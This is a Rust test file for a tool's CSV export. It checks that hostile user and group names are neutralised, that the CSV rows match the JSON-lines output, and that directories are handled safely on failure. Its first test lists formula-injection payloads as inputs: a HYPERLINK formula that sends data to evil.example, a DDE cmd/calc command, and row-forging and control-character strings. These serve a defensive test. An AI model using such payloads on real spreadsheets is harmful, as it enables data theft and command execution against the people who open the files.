//! CSV: a directory of tables that a spreadsheet opens without running anything.

use super::setup::MockAndFolder;
use super::{assert_exit, host_test, names, text};
use std::collections::BTreeSet;
use std::fs;
use std::process::Output;

const SYNC: [&str; 4] = ["--format", "csv", "--output", "out/"];

fn read(setup: &MockAndFolder, name: &str) -> Vec<Vec<String>> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_path(setup.path("out").join(name)).unwrap();
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn assert_synced(output: &Output) {
    assert!(matches!(output.status.code(), Some(0 | 6)), "{}", text(&output.stderr));
    assert_eq!(text(&output.stdout), "");
}

#[test]
fn names_of_strangers_are_no_formulas_and_no_rows() {
    let setup = MockAndFolder::new();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r\n=1+1",
        "  =1+1",
        "\u{200b}=1+1",
        "a\",\"b\r\nforged,row",
        "\u{1b}[2J\u{202e}",
    ];
    setup.mock.change(|account| {
        for (user, name) in account.users.iter_mut().zip(hostile) {
            user.name = Some(name.to_owned());
        }
        for (group, name) in account.groups.iter_mut().zip(hostile) {
            group.name = name.to_owned();
        }
    });
    assert_synced(&setup.sync(&SYNC).output().unwrap());
    let files = ["entitlements.csv", "grants.csv", "resources.csv", "warnings.csv"];
    assert_eq!(names(&setup.path("out")), files.map(str::to_owned).into());
    for file in files {
        let rows = read(&setup, file);
        for row in &rows {
            assert_eq!(row.len(), rows[0].len(), "{row:?}");
            for cell in row {
                let begins = cell.trim_start().chars().next();
                assert!(!begins.is_some_and(|c| "=+-@".contains(c)), "{cell:?}");
                assert!(!cell.contains(char::is_control), "{cell:?}");
            }
        }
    }
    let resources = read(&setup, "resources.csv");
    let named: BTreeSet<&str> = resources.iter().map(|row| row[4].as_str()).collect();
    for expected in ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3", "a\",\"b  forged,row"] {
        assert!(named.contains(expected), "{expected} is missing from {named:?}");
    }
}

#[test]
fn a_row_for_everything_that_json_lines_tell() {
    let setup = MockAndFolder::new();
    assert_synced(&setup.sync(&SYNC).output().unwrap());
    let lines = fs::read_to_string(setup.undisturbed("jsonl")).unwrap();
    for (of, file) in [
        ("resource", "resources.csv"),
        ("entitlement", "entitlements.csv"),
        ("grant", "grants.csv"),
        ("warning", "warnings.csv"),
    ] {
        let start = format!("{{\"type\":\"{of}\"");
        let expected = lines.lines().filter(|line| line.starts_with(&start)).count();
        assert_eq!(read(&setup, file).len() - 1, expected, "{of}");
    }
    for row in &read(&setup, "grants.csv")[1..] {
        let [basis, conditions] = [&row[4], &row[5]];
        assert!(serde_json::from_str::<serde_json::Value>(basis).unwrap().is_array(), "{basis}");
        assert!(
            conditions.is_empty() || serde_json::from_str::<serde_json::Value>(conditions).is_ok(),
            "{conditions}"
        );
    }
}

#[test]
fn only_an_earlier_sync_s_directory_is_replaced() {
    let setup = MockAndFolder::new();
    assert_synced(&setup.sync(&SYNC).output().unwrap());
    assert_synced(&setup.sync(&SYNC).output().unwrap());
    fs::write(setup.path("out/thesis.txt"), "years of work").unwrap();
    setup.mock.forget_requests();
    let refused = setup.sync(&SYNC).output().unwrap();
    assert_exit(&refused, 2);
    assert!(text(&refused.stderr).contains("other things"), "{}", text(&refused.stderr));
    assert_eq!(setup.mock.request_count(), 0, "it fails before anything is read");
    assert_eq!(names(&setup.path("out")).len(), 5);
    assert_eq!(names(setup.place.path()), BTreeSet::from(["out".to_owned()]));
}

#[test]
fn a_sync_that_fails_leaves_the_directory_as_it_was() {
    let setup = MockAndFolder::new();
    assert_synced(&setup.sync(&SYNC).output().unwrap());
    let before = setup.read("out/grants.csv");
    setup.mock.inject(host_test::mock::Fault::on(
        "GET",
        "access/users",
        host_test::mock::Effect::Html { status: 403 },
    ));
    let failed = setup.sync(&SYNC).output().unwrap();
    assert!(!failed.status.success());
    assert!(setup.read("out/grants.csv") == before, "it was touched");
    assert_eq!(names(setup.place.path()), BTreeSet::from(["out".to_owned()]));
}

#[test]
fn help_tells_what_is_done_to_a_formula() {
    let output = host_test(&["sync", "--help"]).output().unwrap();
    assert!(text(&output.stdout).contains("formula"), "{}", text(&output.stdout));
}
